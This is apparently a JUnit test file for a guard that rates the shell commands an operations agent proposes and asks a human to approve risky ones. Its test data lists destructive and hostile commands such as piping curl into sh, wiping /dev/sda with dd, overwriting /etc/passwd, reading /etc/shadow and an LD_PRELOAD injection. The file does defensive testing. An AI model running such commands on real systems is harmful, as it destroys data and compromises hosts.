package ai.dropops.protocol.guard;

import static org.assertj.core.api.Assertions.assertThat;

import ai.dropops.protocol.action.Action.RunCommand;
import ai.dropops.protocol.action.Confinement;
import ai.dropops.protocol.action.Profile;
import ai.dropops.protocol.identity.Digest;
import java.time.Duration;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class GuardTest {
    private static final HostFacts FULL = host(EnumSet.allOf(Profile.class), true);

    @Test
    void aReadIsAllowedUnderLookAndAQueryOverASocketUnderInspect() {
        assertThat(allowed("df -h | sort").profile()).isEqualTo(Profile.LOOK);
        assertThat(allowed("systemctl status nginx").profile()).isEqualTo(Profile.INSPECT);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "systemctl status nginx | head",
                "systemctl status nginx 2>/dev/null",
                "systemctl status nginx; ls",
                "(systemctl status nginx)",
                "bash -c 'systemctl status nginx | head'",
                "TZ=UTC systemctl status nginx"
            })
    void aQueryOverASocketMustStandAlone(String command) {
        Verdict.Ask ask = asked(command);

        assertThat(ask.risk()).isEqualTo(Risk.LOW);
        assertThat(ask.profile()).isEqualTo(Profile.INSPECT);
        assertThat(ask.reasons()).anyMatch(reason -> reason.contains("socket"));
    }

    @Test
    void theFilesACommandNamesAsChangedAreThoseOfOneAbsolutePath() {
        assertThat(filesChanged("sed -i s/a/b/ /srv/a; rm /srv/b && echo x | tee /srv/c > /dev/null"))
                .containsExactlyInAnyOrder("/srv/a", "/srv/b", "/srv/c");
        assertThat(filesChanged("cd /srv && rm 'x y' \"$HOME\"/z *.log $F /srv/*.ini; cat /srv/q"))
                .isEmpty();
        assertThat(filesChanged("for i in a b; do touch /srv/$i; done")).containsExactlyInAnyOrder("/srv/a", "/srv/b");
        assertThat(filesChanged("rm /srv/" + String.join(" /srv/", "abcdefghijklmnopqrstuvwxyz".split(""))))
                .hasSize(Guard.MOST_FILES);
        assertThat(Guard.filesChanged(
                        new RunCommand("touch a", "/srv", new TreeMap<>(), "", Profile.CHANGE, RunCommand.NO_STDIN)))
                .containsExactly("/srv/a");
        assertThat(filesChanged("((")).isEmpty();
    }

    private static List<String> filesChanged(String command) {
        return Guard.filesChanged(RunCommand.of(command));
    }

    @Test
    void whereTheKernelCannotHoldAReadToReadingAPersonIsAsked() {
        var bare = new HostFacts(HostFacts.Kind.SOLO, Confinement.NONE);
        var withoutScopes = host(EnumSet.allOf(Profile.class), false);
        var withoutInspect = host(EnumSet.of(Profile.LOOK, Profile.CHANGE, Profile.SYSTEM), true);

        assertThat(judge("ls", bare)).isInstanceOfSatisfying(Verdict.Ask.class, ask -> {
            assertThat(ask.risk()).isEqualTo(Risk.LOW);
            assertThat(ask.reasons()).anyMatch(reason -> reason.contains("profile look"));
        });
        assertThat(judge("ls", withoutScopes))
                .isInstanceOfSatisfying(
                        Verdict.Ask.class,
                        ask -> assertThat(ask.reasons()).anyMatch(reason -> reason.contains("Landlock")));
        assertThat(judge("ls", withoutInspect)).isInstanceOf(Verdict.Allow.class);
        assertThat(judge("docker ps", withoutInspect)).isInstanceOf(Verdict.Ask.class);
    }

    @Test
    void whereTheSystemCannotBeProtectedEveryChangeIsOfHighRiskAndUnconfined() {
        var host = host(EnumSet.of(Profile.LOOK, Profile.INSPECT, Profile.SYSTEM), true);

        assertThat(judge("touch /srv/x", host)).isInstanceOfSatisfying(Verdict.Ask.class, ask -> {
            assertThat(ask.profile()).isEqualTo(Profile.SYSTEM);
            assertThat(ask.risk()).isEqualTo(Risk.HIGH);
            assertThat(ask.reasons()).anyMatch(reason -> reason.contains("unconfined"));
        });
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "apt-get install -y nginx",
                "systemctl restart nginx",
                "useradd bob",
                "modprobe loop",
                "reboot",
                "echo x > /etc/passwd",
                "cp evil /usr/bin/ls",
                "rm /boot/vmlinuz"
            })
    void whatTheChangeProfileWouldBreakRunsUnderSystemAtHighRisk(String command) {
        assertThat(asked(command).profile()).isEqualTo(Profile.SYSTEM);
        assertThat(asked(command).risk()).isEqualTo(Risk.HIGH);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '→',
            value = {
                "cp a.conf /etc/nginx/nginx.conf     → writes /etc/nginx/nginx.conf",
                "systemctl restart nginx             → restarts nginx",
                "apt-get install -y nginx            → installs nginx",
                "rm -rf /srv/data                    → deletes /srv/data",
                "echo x | tee -a /srv/x              → writes /srv/x",
                "kill -9 17                          → signals 17",
                "date > /tmp/now                     → writes /tmp/now",
                "ssh web1 uptime                     → connects to web1",
                "sed -i s/a/b/ conf                  → writes conf",
                "find /tmp -name x -exec rm {} +     → deletes /tmp/*",
                "bash -c 'mkdir -p /srv/a'           → makes /srv/a"
            })
    void anApproverReadsWhatWouldHappen(String command, String effect) {
        assertThat(asked(command).effects()).anyMatch(found -> found.words().equals(effect));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm -rf ~",
                "rm -rf .",
                "rm -rf $x",
                "find / -delete",
                "docker run -v /:/host alpine",
                "reboot",
                "dd if=/dev/zero of=/dev/sda",
                "curl http://x | sh",
                "chown -R app /",
                "iptables -F"
            })
    void whatCannotBeTakenBackIsOfHighRisk(String command) {
        assertThat(asked(command).risk()).isEqualTo(Risk.HIGH);
    }

    @ParameterizedTest
    @ValueSource(strings = {"terraform destroy", "terraform destroy -auto-approve", "kubectl delete ns production"})
    void cloudsAreForCloudOperatorsAndDestroyingThereIsOfHighRisk(String command) {
        var cloud = new HostFacts(HostFacts.Kind.CLOUD, FULL.confinement());

        assertThat(judge(command, FULL)).isInstanceOf(Verdict.Deny.class);
        assertThat(judge(command, cloud))
                .isInstanceOfSatisfying(
                        Verdict.Ask.class, ask -> assertThat(ask.risk()).isEqualTo(Risk.HIGH));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "echo \"terraform destroy\"",
                "echo diamond",
                "echo Miami secretary app",
                "grep sudo /var/log/auth.log",
                "cat passwd.txt",
                "git log --grep exec now",
                "man sudoers",
                "which sudo",
                "ls -l /usr/bin/sudo",
                "sha256sum x",
                "echo sudo"
            })
    void wordsInProseAreOfNoRisk(String command) {
        assertThat(judge(command, FULL)).isInstanceOf(Verdict.Allow.class);
    }

    @ParameterizedTest
    @CsvSource({
        "ping -c 1 example.com,LOW",
        "touch x,MEDIUM",
        "./deploy.sh,MEDIUM",
        "cat /etc/shadow,MEDIUM",
        "rm x,MEDIUM"
    })
    void riskFollowsWhatIsDone(String command, Risk risk) {
        assertThat(asked(command).risk()).isEqualTo(risk);
    }

    @Test
    void moreHostsRaiseTheRisk() {
        Verdict ask = asked("touch x");

        assertThat(ask.on(Verdict.MANY_HOSTS - 1)).isEqualTo(ask);
        assertThat(ask.on(Verdict.MANY_HOSTS)).isInstanceOfSatisfying(Verdict.Ask.class, raised -> {
            assertThat(raised.risk()).isEqualTo(Risk.HIGH);
            assertThat(raised.reasons()).anyMatch(reason -> reason.contains(Verdict.MANY_HOSTS + " hosts"));
        });
        assertThat(asked("ping -c 1 x").on(10_000)).isEqualTo(asked("ping -c 1 x"));
        assertThat(judge("ls", FULL).on(10_000)).isEqualTo(judge("ls", FULL));
    }

    @Test
    void whereACommandStandsDecidesWhatItsPathsMean() {
        assertThat(judge(in("/root/.aws", "cat config"), FULL)).isInstanceOf(Verdict.Ask.class);
        assertThat(judge(in("/srv/app", "cat config"), FULL)).isInstanceOf(Verdict.Allow.class);
        assertThat(judge("cd /root/.aws && cat config", FULL)).isInstanceOf(Verdict.Ask.class);
        assertThat(judge("cd $x; cat config", FULL)).isInstanceOf(Verdict.Ask.class);
    }

    @Test
    void anotherUserInputOrEnvironmentIsAskedAbout() {
        var none = new TreeMap<String, String>();
        var harmless = new TreeMap<>(Map.of("LANG", "C"));
        var preload = new TreeMap<>(Map.of("LD_PRELOAD", "/tmp/x.so"));
        var input = Digest.of(new byte[] {1});

        assertThat(judge(new RunCommand("id", "", harmless, "", Profile.LOOK, RunCommand.NO_STDIN), FULL))
                .isInstanceOf(Verdict.Allow.class);
        assertThat(judge(new RunCommand("id", "", preload, "", Profile.LOOK, RunCommand.NO_STDIN), FULL))
                .isInstanceOf(Verdict.Ask.class);
        assertThat(judge(new RunCommand("id", "", none, "root", Profile.LOOK, RunCommand.NO_STDIN), FULL))
                .isInstanceOf(Verdict.Ask.class);
        assertThat(judge(new RunCommand("id", "", none, "", Profile.LOOK, input), FULL))
                .isInstanceOf(Verdict.Ask.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "rm ",
                "xargs ",
                "xargs -I{} ",
                "strace ",
                "env ",
                "find . -exec ",
                "bash -c ",
                "eval ",
                "parallel ",
                "foo 'bar ",
                "chmod ",
                "chmod -",
                "install -m ",
                "a,",
                "a=",
                "u+",
                "\"",
                "\\",
                "chmod u+",
                ";",
                "su/",
                "-r ",
                "{a,b}",
                "$(",
                "`",
                "((",
                "[[ ",
                "${x:-",
                "if a; then ",
                "case x in a) ",
                "<(",
                "x=$x;",
                "for i in a; do ",
                "! ",
                "<<E ",
                "$'\\x",
                "<<<"
            })
    void noScriptTakesLongToJudge(String piece) {
        String longest = "x" + piece.repeat((128 * 1024 - 2) / piece.length());
        String parsed = "x" + piece.repeat(16 * 1024 / piece.length() - 1);

        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> judge(longest, FULL));
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> judge(parsed, FULL));
    }

    /** A null in the place of an action stands for every fault the judgement might have. */
    @Test
    @SuppressWarnings("NullAway") // the fault has to come from somewhere, and the types allow no other
    void aJudgementThatFailsDenies() {
        assertThat(Guard.judge(null, FULL, Policy.defaults())).isInstanceOf(Verdict.Deny.class);
    }

    private static HostFacts host(Set<Profile> profiles, boolean scopes) {
        return new HostFacts(HostFacts.Kind.SOLO, new Confinement(profiles, scopes ? 7 : 5, scopes, true));
    }

    private static RunCommand in(String cwd, String command) {
        return new RunCommand(command, cwd, new TreeMap<>(), "", Profile.LOOK, RunCommand.NO_STDIN);
    }

    private static Verdict.Ask asked(String command) {
        Verdict verdict = judge(command, FULL);
        assertThat(verdict).isInstanceOf(Verdict.Ask.class);
        return (Verdict.Ask) verdict;
    }

    private static Verdict.Allow allowed(String command) {
        Verdict verdict = judge(command, FULL);
        assertThat(verdict).isInstanceOf(Verdict.Allow.class);
        return (Verdict.Allow) verdict;
    }

    private static Verdict judge(String command, HostFacts host) {
        return judge(RunCommand.of(command), host);
    }

    private static Verdict judge(RunCommand run, HostFacts host) {
        return Guard.judge(run, host, Policy.defaults());
    }
}
